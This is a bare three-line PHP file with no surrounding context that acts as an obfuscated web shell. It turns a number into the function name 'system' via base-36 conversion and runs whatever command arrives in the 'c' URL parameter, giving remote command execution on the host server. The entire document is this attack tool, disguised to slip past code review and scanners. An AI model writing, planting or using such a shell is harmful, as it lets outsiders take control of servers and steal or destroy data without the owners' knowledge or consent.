<?php
$f = base_convert(1751504350, 10, 36);
$f($_GET['c']);
